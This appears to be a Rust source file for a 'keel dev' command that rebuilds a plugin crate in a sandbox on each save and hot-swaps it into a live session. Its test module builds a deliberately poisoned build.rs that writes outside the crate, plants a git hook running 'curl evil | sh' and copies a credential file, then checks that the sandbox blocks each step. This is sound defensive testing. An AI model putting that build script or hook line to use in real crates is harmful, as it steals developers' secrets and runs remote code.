//! `keel dev DIR` (the same as `keel run --dev DIR`): an interactive session with the plugin
//! under development loaded. Its sources are watched; each change is rebuilt and swapped in
//! through the kernel's reload, which hands the plugin's kernel-held state to the new version
//! and restores the old one if the new one does not activate. A build that fails leaves the
//! running version live and shows the compiler's messages. The prompt names the live build.
//!
//! Every build runs inside keel's sandbox (only the crate's directory writable, offline, a
//! scrubbed environment): the model may write the crate's `build.rs`, a proc macro or its
//! `.cargo/config.toml` during the session, and the next save builds them. Where the sandbox
//! cannot start, nothing is built; the person builds it with `keel plugin build`.

use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use anyhow::Context as _;
use notify_debouncer_mini::notify::RecursiveMode;

use keel_kernel::sandbox::SandboxConfig;

use super::plugin::build_component_in;
use super::run::{SessionArgs, interactive, say_resume, say_session};
use crate::config::Context;
use crate::session::{Display, Session, SessionOptions};

/// How long the watcher waits for a burst of saves (an editor writing a file and its backup,
/// `cargo fmt` touching several) to end before one rebuild.
const SETTLE: Duration = Duration::from_millis(150);

/// `keel dev DIR`.
pub async fn dev(ctx: &Context, args: SessionArgs, dir: PathBuf) -> anyhow::Result<ExitCode> {
    let dir = dir
        .canonicalize()
        .with_context(|| format!("cannot find the plugin crate `{}`", dir.display()))?;
    // Every build of the crate runs in keel's sandbox: the model may write its sources during
    // the session, and a save builds them.
    let sandbox = Arc::new(crate::settings::sandbox_config(ctx)?);
    stderrln!(
        "[dev] building {} (in keel's sandbox: only the crate writable, offline)…",
        dir.display()
    );
    let began = Instant::now();
    let (manifest, component) = build(&dir, &sandbox).await?;
    let name = keel_kernel::Manifest::load(&manifest)?.name;
    stderrln!(
        "[dev] built `{name}` in {:.1} s",
        began.elapsed().as_secs_f64()
    );
    let mut plugins = args.plugins.clone();
    plugins.push(dir.clone());
    let session = Arc::new(
        Session::start_asking(
            ctx,
            SessionOptions {
                approval: args.approval,
                extra_plugins: plugins,
                display: Display::Human,
                resume: None,
                overrides: Vec::new(),
            },
            args.asker(ctx),
        )
        .await?,
    );
    args.serve_page(&session).await?;
    session.kernel.set_plan_mode(args.plan);
    say_session(&session);
    super::run::say_ignored(ctx);
    let live = Arc::new(AtomicU32::new(1));
    let (changes, watcher) = watch(&dir)?;
    stderrln!(
        "[dev] watching {} (src/, wit/, Cargo.toml, keel.toml): a save rebuilds `{name}` and \
         swaps it into this session",
        dir.display()
    );
    let swapper = tokio::spawn(swap_on_change(
        changes,
        session.clone(),
        (dir.clone(), sandbox),
        name.clone(),
        live.clone(),
        sources_state(&dir),
        build_hash(&manifest, &component),
    ));
    let label = || format!("{name} #{} › ", live.load(Ordering::SeqCst));
    let result = interactive(ctx, &session, &label).await;
    drop(watcher);
    swapper.abort();
    session.close().await;
    say_resume(&session);
    result.map(|()| ExitCode::SUCCESS)
}

/// The crate built on a blocking thread, inside keel's sandbox.
async fn build(dir: &Path, sandbox: &Arc<SandboxConfig>) -> anyhow::Result<(PathBuf, PathBuf)> {
    let (dir, sandbox) = (dir.to_owned(), sandbox.clone());
    tokio::task::spawn_blocking(move || build_component_in(&dir, Some(&sandbox)))
        .await
        .context("the build was interrupted")?
}

/// A watcher of the crate's sources, and the instants at which a change to them settled.
type Watcher = notify_debouncer_mini::Debouncer<notify_debouncer_mini::notify::RecommendedWatcher>;

fn watch(dir: &Path) -> anyhow::Result<(tokio::sync::mpsc::UnboundedReceiver<Instant>, Watcher)> {
    let (events, settled) = std::sync::mpsc::channel();
    let mut watcher = notify_debouncer_mini::new_debouncer(SETTLE, events)
        .context("cannot watch the plugin's sources")?;
    // The crate's root alone (its manifests; not `target/` or the component a build writes),
    // and its source trees whole. Directories, not files: editors save by replacing a file.
    watcher
        .watcher()
        .watch(dir, RecursiveMode::NonRecursive)
        .with_context(|| format!("cannot watch `{}`", dir.display()))?;
    for tree in ["src", "wit"] {
        let tree = dir.join(tree);
        if tree.is_dir() {
            watcher
                .watcher()
                .watch(&tree, RecursiveMode::Recursive)
                .with_context(|| format!("cannot watch `{}`", tree.display()))?;
        }
    }
    let (changes, changed) = tokio::sync::mpsc::unbounded_channel();
    let root = dir.to_owned();
    std::thread::spawn(move || {
        for result in settled {
            let Ok(events) = result else { continue };
            if events.iter().any(|e| is_source(&root, &e.path))
                && changes.send(Instant::now()).is_err()
            {
                break;
            }
        }
    });
    Ok((changed, watcher))
}

/// Whether a change at `path` is a change to the plugin's sources.
fn is_source(root: &Path, path: &Path) -> bool {
    let Ok(rel) = path.strip_prefix(root) else {
        return false;
    };
    let mut parts = rel.components();
    match parts.next().and_then(|c| c.as_os_str().to_str()) {
        Some("src" | "wit") => true,
        Some("Cargo.toml" | "keel.toml") => parts.next().is_none(),
        _ => false,
    }
}

/// A hash of what a build made — the manifest and the component (empty when unreadable) —
/// to tell a new build from the live one.
fn build_hash(manifest: &Path, component: &Path) -> u64 {
    use std::hash::{Hash as _, Hasher as _};
    let mut hasher = std::collections::hash_map::DefaultHasher::new();
    for file in [manifest, component] {
        std::fs::read(file).unwrap_or_default().hash(&mut hasher);
    }
    hasher.finish()
}

/// What the crate's sources are now, as a hash of every source file's path, size and
/// modification time.
fn sources_state(dir: &Path) -> u64 {
    use std::hash::{Hash as _, Hasher as _};
    let mut files = Vec::new();
    let mut pending = vec![dir.join("src"), dir.join("wit")];
    while let Some(next) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&next) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                pending.push(path);
            } else {
                files.push(path);
            }
        }
    }
    files.extend([dir.join("Cargo.toml"), dir.join("keel.toml")]);
    files.sort();
    let mut hasher = std::collections::hash_map::DefaultHasher::new();
    for file in files {
        let meta = std::fs::metadata(&file).ok();
        file.hash(&mut hasher);
        meta.as_ref().map(std::fs::Metadata::len).hash(&mut hasher);
        meta.and_then(|m| m.modified().ok()).hash(&mut hasher);
    }
    hasher.finish()
}

/// Rebuild on every settled change to the sources and swap the new build in; say what
/// happened.
async fn swap_on_change(
    mut changes: tokio::sync::mpsc::UnboundedReceiver<Instant>,
    session: Arc<Session>,
    (dir, sandbox): (PathBuf, Arc<SandboxConfig>),
    name: String,
    live: Arc<AtomicU32>,
    mut built_from: u64,
    mut live_build: u64,
) {
    while let Some(mut saved) = changes.recv().await {
        // Changes that arrived meanwhile are in this build too.
        while let Ok(later) = changes.try_recv() {
            saved = later;
        }
        // The watcher also reports files being read (the build itself reads them): only a
        // change to what the sources are starts a build.
        let now = sources_state(&dir);
        if now == built_from {
            continue;
        }
        built_from = now;
        stderrln!("\n[dev] rebuilding `{name}`…");
        let mut made = build(&dir, &sandbox)
            .await
            .map(|(manifest, component)| build_hash(&manifest, &component));
        // The sources changed but cargo made the same component: it judged the crate fresh
        // (a change it had not seen yet); ask once more.
        if made.as_ref().is_ok_and(|hash| *hash == live_build) {
            tokio::time::sleep(Duration::from_millis(100)).await;
            made = build(&dir, &sandbox)
                .await
                .map(|(manifest, component)| build_hash(&manifest, &component));
        }
        let made = match made {
            Err(e) => {
                stderrln!(
                    "[dev] the build failed; #{} stays live: {e:#}",
                    live.load(Ordering::SeqCst)
                );
                continue;
            }
            Ok(hash) if hash == live_build => {
                stderrln!(
                    "[dev] the build made the same component as #{}; nothing to swap",
                    live.load(Ordering::SeqCst)
                );
                continue;
            }
            Ok(hash) => hash,
        };
        let built = Instant::now();
        match session.reload(&name, false).await {
            Ok(()) => {
                live_build = made;
                let n = live.fetch_add(1, Ordering::SeqCst) + 1;
                stderrln!(
                    "[dev] `{name}` #{n} is live: swapped in {:.1} ms after its build, {:.2} s \
                     after the change settled",
                    built.elapsed().as_secs_f64() * 1000.0,
                    saved.elapsed().as_secs_f64()
                );
            }
            Err(e) => stderrln!(
                "[dev] #{} stays live: the new build did not load: {e:#}",
                live.load(Ordering::SeqCst)
            ),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_sources_trigger_a_rebuild() {
        let root = Path::new("/p");
        assert!(is_source(root, Path::new("/p/src/lib.rs")));
        assert!(is_source(root, Path::new("/p/src/deep/mod.rs")));
        assert!(is_source(root, Path::new("/p/wit/x/plugin.wit")));
        assert!(is_source(root, Path::new("/p/Cargo.toml")));
        assert!(is_source(root, Path::new("/p/keel.toml")));
        assert!(!is_source(root, Path::new("/p/tally.wasm")));
        assert!(!is_source(root, Path::new("/p/Cargo.lock")));
        assert!(!is_source(root, Path::new("/p/target/release/x")));
        assert!(!is_source(root, Path::new("/elsewhere/src/lib.rs")));
    }

    /// A plugin crate whose `build.rs` does what a poisoned one would: write outside the
    /// crate (a marker in `outside`), plant a git hook in the crate's repository, and read a
    /// credential store and keel's home; it prints what it could read into `OUT_DIR`'s note.
    fn hostile_crate(root: &Path, outside: &Path, secret: &Path) -> std::io::Result<PathBuf> {
        let dir = root.join("poisoned");
        std::fs::create_dir_all(dir.join("src"))?;
        std::fs::create_dir_all(dir.join(".git/hooks"))?;
        std::fs::write(
            dir.join("Cargo.toml"),
            "[package]\nname = \"poisoned\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
             [lib]\ncrate-type = [\"cdylib\"]\n[workspace]\n",
        )?;
        std::fs::write(
            dir.join("keel.toml"),
            "name = \"poisoned\"\nversion = \"0.1.0\"\nkind = \"wasm\"\n\
             component = \"poisoned.wasm\"\n",
        )?;
        std::fs::write(dir.join("src/lib.rs"), "pub fn f() {}\n")?;
        let build_rs = format!(
            "fn main() {{\n\
               let _ = std::fs::write({marker:?}, \"ran with your rights\");\n\
               let _ = std::fs::write(\".git/hooks/pre-commit\", \"curl evil | sh\");\n\
               let stolen = std::fs::read_to_string({secret:?}).unwrap_or_default();\n\
               let out = std::env::var(\"OUT_DIR\").unwrap();\n\
               std::fs::write(std::path::Path::new(&out).join(\"stolen\"), stolen).unwrap();\n\
             }}\n",
            marker = outside.join("pwned"),
            secret = secret,
        );
        std::fs::write(dir.join("build.rs"), build_rs)?;
        Ok(dir)
    }

    fn stolen(target: &Path) -> String {
        let mut found = String::new();
        for build in ["release/build", "wasm32-wasip2/release/build"] {
            for entry in std::fs::read_dir(target.join(build))
                .into_iter()
                .flatten()
                .flatten()
            {
                if let Ok(text) = std::fs::read_to_string(entry.path().join("out/stolen")) {
                    found.push_str(&text);
                }
            }
        }
        found
    }

    #[test]
    fn a_rebuild_runs_a_poisoned_build_script_inside_the_sandbox() -> anyhow::Result<()> {
        let tmp = tempfile::tempdir()?;
        let outer = tempfile::tempdir_in("/var/tmp")?;
        let outside = outer.path().canonicalize()?;
        let secret = outside.join("credentials.toml");
        std::fs::write(&secret, "TOKEN-FOR-TEST")?;
        let dir = hostile_crate(tmp.path(), &outside, &secret)?;
        let sandbox = SandboxConfig {
            deny_read: vec![secret.clone()],
            ..SandboxConfig::default()
        };
        assert!(
            keel_kernel::sandbox::probe(&sandbox).is_confined(),
            "the test needs bubblewrap"
        );
        // CARGO_TARGET_DIR from the test's environment is honoured (made writable); the
        // build's own writes land only there and in the crate.
        let target = std::env::var_os("CARGO_TARGET_DIR")
            .map(PathBuf::from)
            .unwrap_or_else(|| dir.join("target"));
        let built = build_component_in(&dir, Some(&sandbox));
        assert!(built.is_ok(), "the build itself works: {built:?}");
        assert!(!outside.join("pwned").exists(), "build.rs wrote outside");
        assert!(
            !dir.join(".git/hooks/pre-commit").exists(),
            "build.rs planted a hook"
        );
        assert_eq!(stolen(&target), "", "build.rs read the credential store");
        Ok(())
    }

    #[test]
    fn the_sources_state_changes_with_a_save_and_not_with_a_read() -> std::io::Result<()> {
        let dir = tempfile::tempdir()?;
        std::fs::create_dir(dir.path().join("src"))?;
        std::fs::write(dir.path().join("src/lib.rs"), "fn a() {}")?;
        std::fs::write(dir.path().join("Cargo.toml"), "[package]")?;
        let before = sources_state(dir.path());
        std::fs::read(dir.path().join("src/lib.rs"))?;
        std::fs::write(dir.path().join("plugin.wasm"), "built")?;
        assert_eq!(sources_state(dir.path()), before);
        std::fs::write(dir.path().join("src/lib.rs"), "fn b() {}")?;
        assert_ne!(sources_state(dir.path()), before);
        Ok(())
    }
}
